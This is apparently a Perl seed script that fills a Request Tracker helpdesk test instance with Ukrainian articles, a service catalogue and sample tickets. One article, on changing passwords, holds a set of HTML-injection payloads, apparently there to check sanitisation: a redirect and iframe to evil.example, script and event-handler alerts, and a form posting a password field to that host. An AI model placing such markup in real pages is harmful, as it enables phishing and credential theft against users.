# SPDX-License-Identifier: GPL-3.0-or-later
# The content of the desk that seed.pl has made: the catalogue's texts, articles, tickets.
use strict;
use warnings;
use utf8;
use Encode ();
use GD;
use MIME::Base64 ();
use MIME::Entity;

our ($system, %user, %queue, %field, %class);

sub picture {
    my ($width, $height, $colour, $text) = @_;
    my $image = GD::Image->new($width, $height, 1);
    my $white = $image->colorAllocate(255, 255, 255);
    $image->filledRectangle(0, 0, $width, $height, $image->colorAllocate(@$colour));
    $image->rectangle(3, 3, $width - 4, $height - 4, $white);
    $image->string(gdGiantFont, 10, $height / 2 - 8, $text, $white);
    return $image->png;
}

# ---- the catalogue

sub describe {
    my ($queue, $category, $kind, $colour) = @_;
    my @values = (
        [category => Value => $category],
        [kind     => Value => $kind],
        [icon     => Value => 'icon.png', LargeContent => picture(96, 96, $colour, $queue->id), ContentType => 'image/png'],
        [long     => Value => '<p><b>' . $queue->Name . '</b></p><p>' . $queue->Description
                . '.</p><ul><li>строк: 3 робочі дні</li><li>потрібне погодження керівника</li></ul>'],
    );
    for (@values) {
        my ($key, @value) = @$_;
        must($queue->Name . " $key", $queue->AddCustomFieldValue(Field => $field{$key}->id, @value));
    }
}

describe($queue{request}, 'Загальне', 'запит', [70, 90, 160]);
describe($queue{incident}, 'Загальне', 'інцидент', [180, 60, 60]);
describe($queue{laptop}, 'Обладнання', 'запит', [60, 130, 90]);
describe($queue{device}, 'Обладнання', 'запит', [90, 110, 60]);
describe($queue{vpn}, 'Доступи', 'запит', [120, 80, 150]);
describe($queue{update}, 'Загальне', 'запит', [150, 110, 60]);
describe($queue{password}, 'Доступи', 'запит', [60, 110, 150]);

# ---- articles

my $web = RT->Config->Get('WebBaseURL');

# The body is made by a function: of the web address of the article's picture.
sub article {
    my ($class, $name, $summary, $body, %about) = @_;
    my $article = RT::Article->new($system);
    must("article $name", $article->Create(
        Class => $class{$class}->id, Name => $name, Summary => $summary,
        map { 'CustomField-' . $field{$_}->id => $about{$_} } keys %about));
    my $picture = '';
    if ($body =~ /PICTURE/) {
        must("picture of $name", $article->AddCustomFieldValue(
            Field => $field{picture}->id, Value => 'малюнок.png',
            LargeContent => picture(320, 120, [40, 70, 140], 'RT article'), ContentType => 'image/png'));
        $picture = '/REST/2.0/download/cf/' . $article->CustomFieldValues($field{picture}->id)->First->id;
    }
    $body =~ s/PICTURE/$picture/g;
    must("body of $name", $article->AddCustomFieldValue(Field => $field{body}->id, Value => $body));
    return $article->id;
}

my $sign = MIME::Base64::encode_base64(picture(24, 24, [200, 150, 0], '!'), '');
my $mail = article(knowledge => 'Як налаштувати пошту в Outlook', 'Покрокова інструкція для Outlook 2021', <<"END",
<h2>Налаштування пошти</h2><ol><li>Відкрийте <b>Outlook</b>.</li><li>Додайте обліковий запис.</li></ol>
<table border="1"><tr><th>Сервер</th><th>Порт</th></tr><tr><td>imap.rt.local</td><td>993</td></tr></table>
<p><img src="PICTURE" alt="вікно налаштувань"></p>
<p>Знак у тексті: <img src="data:image/png;base64,$sign" alt="знак"></p>
END
    keywords => ['пошта', 'outlook'], section => 'Пошта / Outlook');
my $vpn = article(knowledge => 'Підключення до VPN', 'Як під’єднатися до мережі з дому', <<"END",
<h2>VPN</h2><p>Завантажте профіль і відкрийте <a href="https://vpn.rt.local/">портал</a>.</p>
<pre>sudo openvpn --config profile.ovpn</pre><p><img src="${web}PICTURE" alt="схема мережі"></p>
<p>Спершу <a href="$web/Articles/Article/Display.html?id=$mail">налаштуйте пошту</a>.</p>
END
    keywords => ['vpn', 'віддалена робота'], section => 'Мережа / VPN');
article(knowledge => 'Заміна картриджа в принтері', 'Коли друк став блідим', <<"END",
<p>Відкрийте кришку, вийміть картридж, <i>струсіть</i> його. Див. також
<a href="/SelfService/Article/Display.html?id=$vpn">статтю про VPN</a>.</p>
END
    keywords => ['принтер'], section => 'Обладнання');
article(knowledge => 'Зміна пароля', 'Пароль діє 90 днів', <<"END", keywords => ['пароль'], section => 'Мережа');
<meta http-equiv="refresh" content="0; url=https://evil.example/"><style>body { display: none }</style>
<p style="position: fixed" onclick="alert(2)">Натисніть <kbd>Ctrl</kbd>+<kbd>Alt</kbd>+<kbd>Del</kbd>.</p>
<script>document.title = 'captured'</script><iframe src="https://evil.example/"></iframe>
<p><a href="javascript:alert(3)">Далі…</a> <img src="https://evil.example/seen.png" onerror="alert(4)"></p>
<form action="https://evil.example/"><input name="password"></form><svg onload="alert(5)"></svg>
END
article(knowledge => 'Підготовка презентації', 'Поради без розділу й картинок', '<p>Пишіть коротко.</p>');
article(news => 'Планові роботи в суботу', '22:00–24:00, пошта буде недоступна',
    '<p>У суботу з <b>22:00</b> до 24:00 оновлюємо поштовий сервер.</p>');
article(news => 'Новий портал самообслуговування', 'Працює з понеділка', '<p>Запрошуємо до нового порталу! <img src="PICTURE" alt="портал"></p>');
article(contacts => 'Служба підтримки', 'Щодня з 8:00 до 20:00', <<"END");
<p>Телефон: <a href="tel:+380444811949">(044) 481-19-49</a></p>
<p>Пошта: <a href="mailto:help\@rt.local">help\@rt.local</a></p><p>Години роботи: 8:00–20:00</p>
END
# More than a page of what is not shown: whoever pages meets an empty one.
article(staff => "Внутрішня інструкція $_", 'Лише для служби', '<p>Таємно.</p>') for 1 .. 21;
article(knowledge => 'Перевірка підпису', 'Стаття, що стоїть за прихованими', '<p>Відкрийте застосунок.</p>', section => 'Обладнання');
article(knowledge => 'Як додати мережевий принтер', 'Принтер, що стоїть у коридорі', <<"END", keywords => ['мережевий принтер'], section => 'Обладнання');
<h2>Дізнайтеся ім’я принтера</h2><p>Воно на наклейці.</p><h2>Додайте його</h2><p>Відкрийте <b>Параметри</b>.</p>
END

# ---- tickets

sub message {
    my ($type, $text, @more) = @_;
    my $message = MIME::Entity->build(Type => @more ? 'multipart/mixed' : $type, Charset => 'utf-8', Encoding => '8bit',
        @more ? () : (Data => Encode::encode_utf8($text)));
    $message->attach(Type => $type, Charset => 'utf-8', Encoding => '8bit', Data => Encode::encode_utf8($text)) if @more;
    for (@more) {
        my ($name, $media, $data, $id) = @$_;
        $message->attach(Type => $media, Filename => Encode::encode_utf8($name), Encoding => 'base64', Data => $data,
            $id ? (Id => "<$id>", Disposition => 'inline') : ());
    }
    return $message;
}

sub as {
    my ($who, $id) = @_;
    my $ticket = RT::Ticket->new(RT::CurrentUser->new($user{$who}->id));
    $ticket->Load($id) if $id;
    return $ticket;
}

sub ticket {
    my ($who, $queue, $subject, $message, %values) = @_;
    my ($id, undef, $error) = as($who)->Create(
        Queue => $queue{$queue}->id, Requestor => $user{$who}->EmailAddress, Subject => $subject, MIMEObj => $message,
        map { 'CustomField-' . $field{$_}->id => $values{$_} } keys %values);
    return must("ticket $subject", $id, $error);
}

sub correspond {
    my ($who, $id, $message) = @_;
    must("reply in $id", as($who, $id)->Correspond(MIMEObj => $message));
}

sub comment {
    my ($id, $text) = @_;
    must("comment in $id", as('agent', $id)->Comment(MIMEObj => message('text/plain', $text)));
}

my $printer = ticket(support => 'incident', 'Не друкує принтер на 3 поверсі',
    message('text/html', '<p>Не друкує принтер на <b>3 поверсі</b>. Знімок додаю.</p>',
        ['знімок.png', 'image/png', picture(200, 100, [90, 90, 90], 'printer')]),
    office => 'Київ', when => '2026-11-20 09:15:00');
as('agent', $printer)->SetOwner($user{agent}->id);
correspond(agent => $printer, message('text/html',
    '<p>Вітаю! Зніміть <i>кришку</i>, як тут:</p><p><img src="cid:cover@rt.local" alt="кришка"></p><p>Тарас</p>',
    ['кришка.png', 'image/png', picture(160, 80, [20, 120, 60], 'cover'), 'cover@rt.local']));
comment($printer, 'Службовий коментар: картридж скінчився.');

# A long one: what the desk did for itself fills whole pages between what the requestor may see.
my $long = ticket(support => 'request', 'Довге листування про звіт', message('text/plain', "Доброго дня!\nЗвіт не сходиться.\n"));
for my $n (1 .. 12) {
    correspond(support => $long, message('text/plain', "Надсилаю частину $n.",
        map { ["звіт-$n-$_.txt", 'text/plain; charset=utf-8', Encode::encode_utf8("Рядок $n-$_\n")] } 1 .. 2));
    for my $m (1 .. ($n == 6 ? 42 : 2)) {
        comment($long, "Внутрішня думка $n-$m.");
        must('note', as('agent', $long)->AddCustomFieldValue(Field => $field{note}->id, Value => "Думка $n-$m"));
    }
    correspond(agent => $long, message('text/plain', "Дякую, отримали частину $n."));
}

my @subjects = ('не відкривається звіт', 'потрібен доступ', 'повільна мережа', 'встановити програму');
my @statuses = qw(open resolved cancelled pending closed);
for my $n (1 .. 45) {
    my $id = ticket(support => (qw(request laptop vpn))[$n % 3], "Звернення № $n: $subjects[$n % 4]",
        message('text/plain', "Доброго дня!\nЦе звернення номер $n.\n"));
    next unless $n % 2;
    my $ticket = RT::Ticket->new($system);
    $ticket->Load($id);
    $ticket->SetStatus($_) for $n % 5 == 4 ? 'resolved' : (), $statuses[$n % 5];
}
ticket(olena => 'request', 'Звернення іншої людини', message('text/plain', 'Приватне'));

# Made in one minute, they are given one hour each.
for my $id (3 .. 47) {
    my $hours = 48 - $id;
    $RT::Handle->SimpleQuery($_) for
        "UPDATE Tickets SET Created = datetime(Created, '-$hours hours'), LastUpdated = datetime(LastUpdated, '-$hours hours') WHERE id = $id",
        "UPDATE Transactions SET Created = datetime(Created, '-$hours hours') WHERE ObjectType = 'RT::Ticket' AND ObjectId = $id";
}
1;
